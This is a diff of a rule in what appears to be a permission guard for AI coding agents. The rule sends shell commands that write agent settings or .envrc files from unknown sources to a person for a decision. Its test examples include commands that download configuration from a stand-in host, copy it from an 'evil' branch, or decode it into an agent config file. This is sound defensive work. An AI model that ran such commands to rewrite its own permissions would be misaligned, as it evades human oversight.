@@ -875,15 +875,15 @@ problem_rule(
     " `permission: allow` or `export CLEARANCE_DB=…` is denied. The file a shell line leaves is judged too: a copy's readable"
     " source, a `sed -i` or `perl -pi` substitution and a `jq` assignment applied to the file on the disk (only what the"
     " command newly turns on counts). Where that text cannot be known before the command runs -- a download, a source"
-    " out of clearance's reach, a program whose output is unknown, interpreter code -- or the file is made a link to a"
-    " file outside the project (later writes there are judged as that folder's), a person is asked. A plain .env is"
+    " out of clearance's reach, a program whose output is unknown, interpreter code -- a person is asked (a link of such"
+    " a file into a temporary folder is fs.settings-linked-outside's). A plain .env is"
     " asked about only where the .envrc beside it loads it (`dotenv`).",
     ASK,
     match=(
         "wget -O opencode.json https://x.example/o.json",
         "curl -o .envrc https://x.example/envrc",
         "git show evil:o.json > .qwen/settings.json",
-        "ln -sf /tmp/o.json opencode.json",
+        "base64 -d blob.txt > .crush.json",
     ),
     no_match=(
         {"tool_name": "Bash", "tool_input": {"command": "cp .envrc.example .envrc"}, "files": {"/home/ana/webapp/.envrc.example": "export PORT=3000\n"}},
